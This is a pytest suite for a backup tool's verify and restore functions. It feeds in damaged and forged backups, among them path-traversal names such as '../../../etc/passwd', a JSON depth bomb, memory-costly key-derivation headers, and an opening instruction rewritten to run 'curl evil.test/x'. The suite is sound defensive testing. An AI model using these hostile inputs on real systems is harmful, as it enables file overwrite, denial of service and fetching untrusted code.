"""Damaged and hostile backups: none is accepted, each is named, nothing is written."""

import hashlib
import io
import json
import struct
from collections.abc import Callable
from pathlib import Path
from random import Random
from typing import Any

import pyrage
import pytest

from desktop.domain.checks import Verdict
from desktop.domain.errors import BackupDamaged
from desktop.operations.backups import restore, verify
from desktop.storage import age, header, tar
from desktop.storage.keys import Keys
from desktop.storage.vault import Vault
from desktop.words import problem_sentence
from tests.conftest import PASSPHRASE
from tests.operations.backup_case import one_backup

FLIPS, CUTS = 120, 60


@pytest.fixture
def key(keys: Keys) -> str:
    return keys.age_identity


def codes(verdict: Verdict) -> list[str]:
    assert all(problem_sentence(problem.code, problem.where) for problem in verdict.problems)
    return [problem.code for problem in verdict.problems]


@pytest.mark.parametrize("whole", [False, True])
def test_no_flipped_bit_passes(vault: Vault, key: str, tmp_path: Path, *, whole: bool):
    file = one_backup(vault, tmp_path, whole=whole).file
    good = file.read_bytes()
    random = Random(1)
    # The few bytes outside of the sealed part are a small target, so they get their share.
    places = [random.randrange(len(good)) for _ in range(FLIPS // 2)] + [random.randrange(12_000) for _ in range(FLIPS // 2)]
    for at in places:
        bad = bytearray(good)
        bad[at] ^= 1 << random.randrange(8)
        file.write_bytes(bad)
        assert codes(verify(file, key)), at


def test_no_flipped_bit_in_a_shared_paper_passes(vault: Vault, key: str, tmp_path: Path):
    file = one_backup(vault, tmp_path).file
    paper = next((file.parent / "copy-papers").iterdir())
    good = paper.read_bytes()
    random = Random(2)
    for _ in range(20):
        bad = bytearray(good)
        bad[random.randrange(len(bad))] ^= 1 << random.randrange(8)
        paper.write_bytes(bad)
        assert codes(verify(file, key)) == ["backup-paper-damaged"]


def test_no_cut_passes(vault: Vault, key: str, tmp_path: Path):
    file = one_backup(vault, tmp_path).file
    good = file.read_bytes()
    random = Random(3)
    for length in [0, 1, 511, 512, len(good) - 1, len(good) - 1024, *(random.randrange(len(good)) for _ in range(CUTS))]:
        file.write_bytes(good[:length])
        assert codes(verify(file, key)) == ["truncated"], length


def test_what_follows_the_end_is_named(vault: Vault, key: str, tmp_path: Path):
    file = one_backup(vault, tmp_path).file
    good = file.read_bytes()
    for more in (b"\0", b"x", bytes(10240), good):
        file.write_bytes(good + more)
        assert codes(verify(file, key)) == ["appended"]


def test_a_missing_and_a_shorter_paper_are_named_each(vault: Vault, key: str, tmp_path: Path):
    file = one_backup(vault, tmp_path).file
    first, second = sorted((file.parent / "copy-papers").iterdir())
    first.unlink()
    second.write_bytes(second.read_bytes()[:-1])

    verdict = verify(file, key)

    assert [(problem.code, problem.where) for problem in verdict.problems] == [
        ("backup-paper-missing", first.name),
        ("backup-paper-damaged", second.name),
    ]


def test_files_that_are_no_backups_are_named(key: str, tmp_path: Path):
    file = tmp_path / "x.backup"
    for content in (b"%PDF-1.4" * 100, bytes(100_000), b"age-encryption.org/v1\n" * 100, Random(4).randbytes(100_000)):
        file.write_bytes(content)
        assert codes(verify(file, key)) == ["not-a-backup"]


def test_another_key_is_told_from_damage_where_it_can_be(vault: Vault, tmp_path: Path):
    file = one_backup(vault, tmp_path).file

    assert codes(verify(file, str(pyrage.x25519.Identity.generate()))) == ["key-does-not-fit"]


# --- backups made by somebody who has the key


class Forger:
    """Takes a backup apart and puts it together again, with valid sums, as someone with the key can."""

    def __init__(self, file: Path, key: str) -> None:
        self.file, self.key = file, key
        self.outside = self._members(file.read_bytes())
        plain = io.BytesIO()
        age.open_into(io.BytesIO(self.outside["data.age"]), plain, key)
        self.inside = self._members(plain.getvalue())
        self.manifest: dict[str, Any] = json.loads(self.inside["manifest.json"])

    @staticmethod
    def _members(data: bytes) -> dict[str, bytes]:
        found = tar.windows(io.BytesIO(data), lambda name, size: True)
        return {name: data[start : start + size] for name, start, size in found}

    def lines(self) -> list[bytes]:
        return self.inside["records/0001.jsonl"].splitlines()

    def set_lines(self, lines: list[bytes]) -> None:
        content = b"".join(line + b"\n" for line in lines)
        self.inside["records/0001.jsonl"] = content
        self.manifest["entries"][0] |= {"size": len(content), "sha256": hashlib.sha256(content).hexdigest()}
        counts: dict[str, int] = {}
        for line in lines:
            kind = json.loads(line[: line.index(b",")] + b"}")["kind"]
            counts[kind] = counts.get(kind, 0) + 1
        self.manifest["counts"] = counts

    def write(self, *, archive: Callable[[bytes], bytes] = bytes, seal: Callable[[bytes], bytes] | None = None) -> Path:
        self.inside["manifest.json"] = json.dumps(self.manifest).encode()
        before = b"".join(tar.member(name, content) for name, content in self.inside.items() if name != "END.json")
        beside = [
            {"name": name, "size": len(self.outside[name]), "sha256": hashlib.sha256(self.outside[name]).hexdigest()}
            for name in ("HOW-TO-OPEN.txt", "header")
        ]
        end = json.dumps({"sha256": hashlib.sha256(before).hexdigest(), "outside": beside}).encode()
        data = archive(before + tar.member("END.json", end) + tar.END)
        self.outside["data.age"] = (seal or self._seal)(data)
        self.file.write_bytes(b"".join(tar.member(name, content) for name, content in self.outside.items()) + tar.END)
        return self.file

    def _seal(self, data: bytes) -> bytes:
        target = io.BytesIO()
        age.seal([data], target, self.key)
        return target.getvalue()


@pytest.fixture
def forger(vault: Vault, key: str, tmp_path: Path) -> Forger:
    return Forger(one_backup(vault, tmp_path).file, key)


def test_the_forger_of_these_tests_is_good_at_it(forger: Forger, key: str):
    forger.set_lines(forger.lines())

    assert codes(verify(forger.write(), key)) == []


def refused(file: Path, key: str, tmp_path: Path) -> None:
    assert codes(verify(file, key))
    with pytest.raises(BackupDamaged):
        restore(file, PASSPHRASE, tmp_path / "new")
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith("new")] == []


def changed(lines: list[bytes], old: bytes, new: bytes) -> list[bytes]:
    assert any(old in line for line in lines)
    return [line.replace(old, new) for line in lines]


LINES: dict[str, Callable[[list[bytes]], list[bytes]]] = {
    "one record twice": lambda lines: [*lines, lines[0]],
    "two cases of one number": lambda lines: changed(lines, b"26-BBBBB", b"26-AAAAA"),
    "an unknown kind": lambda lines: changed(lines, b'{"kind":"person"', b'{"kind":"virus"'),
    "an unknown field": lambda lines: changed(lines, b'"patronymic":', b'"password":'),
    "a paper with a path": lambda lines: [line.replace(b'"sealed":{"file":"', b'"sealed":{"file":"../../') for line in lines],
    "a paper nobody has": lambda lines: [line.replace(b'"size":', b'"size":1') if b'"sealed"' in line else line for line in lines],
    "a paper left out": lambda lines: [line for line in lines if b'"sealed"' not in line],
    "an empty line": lambda lines: [*lines, b'{"kind":"note",}'],
    "a depth bomb": lambda lines: [*lines, b'{"kind":"note","value":' + b"[" * 100_000 + b"]" * 100_000 + b"}"],
    "a text of two million letters": lambda lines: changed(lines, "Пётр".encode(), b"x" * 2_000_000),
}


@pytest.mark.parametrize("change", LINES.values(), ids=LINES)
def test_records_that_no_vault_holds_are_refused(forger: Forger, key: str, tmp_path: Path, change):
    forger.set_lines(change(forger.lines()))

    refused(forger.write(), key, tmp_path)


MANIFESTS: dict[str, Callable[[dict[str, Any]], object]] = {
    "another vault": lambda manifest: manifest.update(vault="0" * 32),
    "another instance": lambda manifest: manifest.update(instance="0" * 32),
    "another epoch": lambda manifest: manifest.update(epoch=99),
    "other counts": lambda manifest: manifest["counts"].update(note=9),
    "more counts": lambda manifest: manifest["counts"].update(virus=0),
    "a field more": lambda manifest: manifest.update(more=1),
    "a field less": lambda manifest: manifest.pop("created"),
    "an entry with a path": lambda manifest: manifest["entries"][0].update(name="records/../../x"),
    "an absolute entry": lambda manifest: manifest["entries"][0].update(name="/records/0001.jsonl"),
    "an entry twice": lambda manifest: manifest["entries"].append(manifest["entries"][0]),
    "an entry that is not there": lambda manifest: manifest["entries"].append(manifest["entries"][0] | {"name": "records/0002.jsonl"}),
    "a size below nothing": lambda manifest: manifest["entries"][0].update(size=-1),
    "a huge size": lambda manifest: manifest["entries"][0].update(size=2**60),
    "no sum": lambda manifest: manifest["entries"][0].update(sha256=""),
    "a paper less": lambda manifest: manifest["papers"].pop(),
    "a paper twice": lambda manifest: manifest["papers"].append(manifest["papers"][0]),
    "a paper with a path": lambda manifest: manifest["papers"][0].update(id="../../../etc/passwd"),
    "a million papers": lambda manifest: manifest.update(entries=manifest["entries"] * 200_000),
    "no format": lambda manifest: manifest.update(format=0),
    "a newer format": lambda manifest: manifest.update(format=2),
    "no number": lambda manifest: manifest.update(format="1"),
}


@pytest.mark.parametrize("change", MANIFESTS.values(), ids=MANIFESTS)
def test_manifests_that_do_not_fit_are_refused(forger: Forger, key: str, tmp_path: Path, change):
    change(forger.manifest)

    assert codes(verify(forger.write(), key))


def test_a_newer_format_is_called_newer(forger: Forger, key: str):
    forger.manifest.update(format=2)

    assert codes(verify(forger.write(), key)) == ["too-new"]


def member(name: str) -> bytes:
    return tar.member(name, b"x")


ARCHIVES: dict[str, Callable[[bytes], bytes]] = {
    "nothing": lambda data: b"",
    "no archive": lambda data: b"x" * 10_000,
    "only the end": lambda data: tar.END,
    "a member before": lambda data: member("records/0009.jsonl") + data,
    "a member after": lambda data: data[: -len(tar.END)] + member("records/0009.jsonl") + tar.END,
    "an unknown name": lambda data: member("etc/passwd") + data,
    "an upper folder": lambda data: member("../x") + data,
    "the manifest twice": lambda data: data[: 512 + 2048] + data,
    "itself twice": lambda data: data + data,
    "cut": lambda data: data[:-700],
    "a bit flipped in a record": lambda data: data[:9000] + bytes([data[9000] ^ 1]) + data[9001:],
}


@pytest.mark.parametrize("change", ARCHIVES.values(), ids=ARCHIVES)
def test_archives_of_another_shape_are_refused(forger: Forger, key: str, tmp_path: Path, change):
    refused(forger.write(archive=change), key, tmp_path)


def test_without_an_end_mark_it_is_not_whole(forger: Forger, key: str):
    def without_end(data: bytes) -> bytes:
        return data[: data.index(b"END.json\0")] + tar.END

    assert codes(verify(forger.write(archive=without_end), key)) == ["truncated"]


def test_an_instruction_somebody_rewrote_is_noticed(forger: Forger, key: str, tmp_path: Path):
    forged = forger.write()

    data = forged.read_bytes().replace(b"age -d -i key.txt", b"curl evil.test/x ", 1)
    forged.write_bytes(data)

    assert [problem.where for problem in verify(forged, key).problems] == ["HOW-TO-OPEN.txt"]


def test_a_passphrase_stanza_is_refused_before_it_costs_memory(forger: Forger, key: str, tmp_path: Path):
    hostile = b"age-encryption.org/v1\n-> scrypt bBjlhJVYZeE4aqUdmtRHfw 24\n" + b"A" * 43 + b"\n--- " + b"A" * 43 + b"\n"

    refused(forger.write(seal=lambda data: hostile), key, tmp_path)


def test_a_costly_header_is_refused_before_it_costs_memory(forger: Forger, keys: Keys):
    head = forger.outside["header"]
    length = struct.unpack(">I", head[14:18])[0]
    body = json.loads(head[18 : 18 + length])
    for name, value in (("m", 2**30), ("t", 10**6), ("p", 200)):
        dear = json.dumps(body | {"kdf": body["kdf"] | {name: value}}, sort_keys=True, separators=(",", ":")).encode()
        start = head[:14] + struct.pack(">I", len(dear)) + dear
        forger.outside["header"] = start + hashlib.sha256(start).digest() + bytes(32)
        assert codes(verify(forger.write(), PASSPHRASE)) == ["backup-header-damaged"]


def test_a_header_altered_by_somebody_is_told_from_a_damaged_one(forger: Forger, vault: Vault):
    head = header.parse(forger.outside["header"]).header
    forger.outside["header"] = header.seal(header.next_epoch(head), b"x" * 32)
    forger.manifest["epoch"] += 1

    assert codes(verify(forger.write(), PASSPHRASE)) == ["header-foreign"]
